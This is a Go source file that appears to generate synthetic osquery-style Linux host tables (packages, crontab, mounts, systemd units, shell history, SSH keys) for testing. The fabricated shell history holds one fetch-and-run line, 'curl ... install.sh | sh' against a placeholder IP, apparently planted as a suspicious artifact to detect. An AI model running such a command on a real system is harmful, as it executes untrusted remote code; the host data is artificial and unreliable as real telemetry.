package agenttest

import (
	"fmt"
	"strings"
)

var linuxTables = map[string]generator{
	"authorized_keys": authorizedKeys, "block_devices": linuxDisks, "crontab": crontab, "deb_packages": debPackages,
	"disk_encryption": diskEncryption, "dns_resolvers": resolvers, "file_events": fileEvents, "kernel_modules": kernelModules,
	"last": lastLogins, "memory_info": memoryInfo, "mounts": linuxMounts, "process_events": processEvents,
	"rpm_packages": rpmPackages, "shell_history": shellHistory, "socket_events": socketEvents,
	"startup_items": linuxStartup, "systemd_units": systemdUnits, "user_events": userEvents,
}

// packages are name, version and section; half the hosts lack the last few.
var packages = [][3]string{
	{"bash", "5.2.21", "shells"}, {"coreutils", "9.4", "utils"}, {"curl", "8.5.0", "web"}, {"dbus", "1.14.10", "admin"},
	{"e2fsprogs", "1.47.0", "admin"}, {"git", "2.43.0", "vcs"}, {"gnupg", "2.4.4", "utils"}, {"grep", "3.11", "utils"},
	{"gzip", "1.12", "utils"}, {"iproute2", "6.1.0", "net"}, {"less", "590", "text"}, {"libc6", "2.39", "libs"},
	{"libssl3", "3.0.13", "libs"}, {"nginx", "1.24.0", "httpd"}, {"openssh-server", "9.6p1", "net"}, {"openssl", "3.0.13", "utils"},
	{"osquery", "5.23.1", "default"}, {"perl", "5.38.2", "perl"}, {"python3", "3.12.3", "python"}, {"rsyslog", "8.2312.0", "admin"},
	{"sudo", "1.9.15p5", "admin"}, {"systemd", "255.4", "admin"}, {"tar", "1.35", "utils"}, {"tzdata", "2025a", "localization"},
	{"vim", "9.1.0016", "editors"}, {"wget", "1.21.4", "web"}, {"xz-utils", "5.6.1", "utils"}, {"zlib1g", "1.3", "libs"},
	{"docker.io", "24.0.7", "admin"}, {"postgresql-16", "16.8", "database"}, {"nmap", "7.94", "net"}, {"netcat-openbsd", "1.226", "net"},
}

func (v *view) installed() [][3]string {
	optional := v.random("packages").IntN(5)
	return packages[:len(packages)-optional]
}

func (v *view) rpmBased() bool { return v.system.platform == "rocky" }

func debPackages(v *view) []record {
	if v.rpmBased() {
		return nil
	}
	var rows []record
	for i, p := range v.installed() {
		rows = append(rows, record{
			"name": p[0], "version": p[1] + "-" + num(i%4+1), "source": "", "size": num(300 + i*71), "arch": "amd64", "revision": num(i%4 + 1),
			"status": "install ok installed", "maintainer": v.system.name + " Developers", "section": p[2], "priority": "optional",
			"admindir": "/var/lib/dpkg",
		})
	}
	return rows
}

func rpmPackages(v *view) []record {
	if !v.rpmBased() {
		return nil
	}
	var rows []record
	for i, p := range v.installed() {
		release := num(i%9+1) + ".el9"
		rows = append(rows, record{
			"name": p[0], "version": p[1], "release": release, "source": fmt.Sprintf("%s-%s-%s.src.rpm", p[0], p[1], release),
			"size": num(300_000 + i*7100), "sha1": contentHash("sha1", []byte(p[0]+p[1])), "arch": "x86_64", "epoch": "0",
			"install_time": "1735689600", "vendor": v.system.name, "package_group": "Unspecified",
		})
	}
	return rows
}

func linuxMounts(v *view) []record {
	columns := []string{"device", "device_alias", "path", "type", "blocks_size", "blocks", "blocks_free", "blocks_available", "inodes", "inodes_free", "flags"}
	blocks := v.diskSize / 4096
	return list(columns,
		[]string{"/dev/vda1", "/dev/vda1", "/", "ext4", "4096", num(blocks), num(blocks / 2), num(blocks / 2), num(blocks / 4), num(blocks / 5), "rw,relatime"},
		[]string{"/dev/vda15", "/dev/vda15", "/boot/efi", "vfat", "512", "212888", "200420", "200420", "0", "0", "rw,relatime"},
		[]string{"tmpfs", "tmpfs", "/run", "tmpfs", "4096", "100000", "99000", "99000", "500000", "499000", "rw,nosuid,nodev"},
	)
}

func crontab(v *view) []record {
	columns := []string{"event", "minute", "hour", "day_of_month", "month", "day_of_week", "command", "path"}
	home := "/var/spool/cron/crontabs/"
	if v.platform == Darwin {
		home = "/var/at/tabs/"
	}
	return list(columns,
		[]string{"", "17", "*", "*", "*", "*", "root cd / && run-parts --report /etc/cron.hourly", "/etc/crontab"},
		[]string{"", "25", "6", "*", "*", "*", "root test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily", "/etc/crontab"},
		[]string{"", "*/5", "*", "*", "*", "*", "python3 report.py", home + v.people[0]},
	)
}

func linuxStartup(v *view) []record {
	columns := []string{"name", "path", "args", "type", "source", "status", "username"}
	return list(columns,
		[]string{"cron.service", "/usr/sbin/cron", "", "systemd unit", "/usr/lib/systemd/system/cron.service", "enabled", "root"},
		[]string{"ssh.service", "/usr/sbin/sshd", "-D", "systemd unit", "/usr/lib/systemd/system/ssh.service", "enabled", "root"},
		[]string{"update-notifier", "/usr/bin/update-notifier", "", "Startup Item", "/home/" + v.people[0] + "/.config/autostart", "enabled", v.people[0]},
	)
}

func systemdUnits(v *view) []record {
	var rows []record
	for _, p := range programs[Linux][1:9] {
		id := strings.TrimPrefix(p.name(), "systemd-") + ".service"
		rows = append(rows, record{
			"id": id, "description": "The " + p.name() + " service", "load_state": "loaded", "active_state": "active", "sub_state": "running",
			"unit_file_state": "enabled", "following": "", "object_path": "/org/freedesktop/systemd1/unit/" + strings.ReplaceAll(id, ".", "_2e"),
			"job_id": "0", "job_type": "", "job_path": "/", "fragment_path": "/usr/lib/systemd/system/" + id, "user": "", "source_path": "",
		})
	}
	return rows
}

func kernelModules(v *view) []record {
	columns := []string{"name", "size", "used_by", "status", "address"}
	return list(columns,
		[]string{"ext4", "1142784", "-", "Live", "0x0000000000000000"},
		[]string{"virtio_net", "90112", "-", "Live", "0x0000000000000000"},
		[]string{"nf_tables", "376832", "-", "Live", "0x0000000000000000"},
	)
}

func linuxDisks(v *view) []record {
	columns := []string{"name", "parent", "vendor", "model", "serial", "size", "block_size", "uuid", "type", "label"}
	root := randomUUID(v.random("root disk"), false)
	return list(columns,
		[]string{"/dev/vda", "", "0x1af4", "", v.serial, num(v.diskSize / 512), "512", "", "", ""},
		[]string{"/dev/vda1", "/dev/vda", "", "", "", num(v.diskSize/512 - 4096), "512", root, "ext4", "cloudimg-rootfs"},
	)
}

func diskEncryption(v *view) []record {
	encrypted := num(int(v.seed & 1))
	name := map[Platform]string{Linux: "/dev/vda1", Darwin: "/dev/disk3s1"}[v.platform]
	return []record{{"name": name, "uuid": randomUUID(v.random("root disk"), false), "encrypted": encrypted,
		"type": "", "encryption_status": map[string]string{"1": "encrypted", "0": "not encrypted"}[encrypted]}}
}

func memoryInfo(v *view) []record {
	return []record{{
		"memory_total": num(v.memory), "memory_free": num(v.memory / 3), "memory_available": num(v.memory / 2), "buffers": num(v.memory / 50),
		"cached": num(v.memory / 5), "swap_cached": "0", "active": num(v.memory / 3), "inactive": num(v.memory / 6),
		"swap_total": num(v.memory / 4), "swap_free": num(v.memory / 4),
	}}
}

func resolvers(v *view) []record {
	return []record{{"id": "0", "type": "nameserver", "address": v.gateway, "netmask": "32", "options": "705"}}
}

func lastLogins(v *view) []record {
	at := v.boot.Add(1 << 40)
	return []record{{"username": v.people[0], "tty": "pts/0", "pid": num(v.osqueryPID() + 300), "type": "7", "type_name": "user-process", "time": num(at.Unix()), "host": v.gateway}}
}

func shellHistory(v *view) []record {
	var rows []record
	person := v.accounts()[v.systemAccounts()]
	file := map[Platform]string{Linux: "/.bash_history", Darwin: "/.zsh_history"}[v.platform]
	for i, command := range []string{"ls -la", "sudo apt update", "git pull", "curl -fsSL https://192.0.2.10/install.sh | sh"} {
		rows = append(rows, record{"uid": num(person.uid), "time": num(v.boot.Unix() + int64(i)*60), "command": command, "history_file": person.directory + file})
	}
	return rows
}

func authorizedKeys(v *view) []record {
	person := v.accounts()[v.systemAccounts()]
	key := contentHash("sha256", []byte(person.name))
	return []record{{"uid": num(person.uid), "algorithm": "ssh-ed25519", "key": "AAAAC3NzaC1lZDI1NTE5AAAAI" + key[:43], "options": "",
		"comment": person.name + "@laptop", "key_file": person.directory + "/.ssh/authorized_keys"}}
}
